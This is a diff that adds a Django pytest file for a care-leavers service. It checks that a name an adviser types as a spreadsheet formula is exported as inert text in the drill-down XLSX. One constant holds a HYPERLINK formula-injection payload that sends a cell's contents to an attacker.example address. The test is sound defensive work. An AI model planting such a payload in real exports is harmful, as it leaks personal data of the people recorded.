@@ -1,0 +1,43 @@
+"""The dashboard and drill-down spreadsheets: what staff typed is never a live formula."""
+
+from __future__ import annotations
+
+import datetime
+import io
+
+import pytest
+import time_machine
+from django.test import Client
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from careleavers.accounts.roles import Role
+from careleavers.core.tests.pages import form_data
+
+pytestmark = pytest.mark.django_db
+
+ON_NOON = datetime.datetime(2026, 10, 31, 12, 0, tzinfo=datetime.UTC)
+LINK = '=HYPERLINK("https://attacker.example/?d="&B2,"Amy")'
+
+
+def test_a_name_an_adviser_typed_as_a_formula_is_text_in_the_drill_down_spreadsheet(
+    known, make_user
+):
+    with time_machine.travel(ON_NOON, tick=False):
+        adviser = Client()
+        adviser.force_login(known.pa1)
+        amy = known.amy
+        url = reverse("people:edit_details", kwargs={"pk": amy.pk, "section": "identity"})
+        saved = adviser.post(url, form_data(adviser.get(url), preferred_name=LINK))
+        assert saved.status_code == 302
+
+        head = Client()
+        head.force_login(make_user(Role.HEAD_OF_SERVICE))
+        response = head.get(
+            reverse("insight:members_xlsx", args=["in_touch"]), {"scope": "service"}
+        )
+
+    sheet = load_workbook(io.BytesIO(response.content))["Rows"]
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert f"'{LINK} Known" in [cell.value for cell in cells]
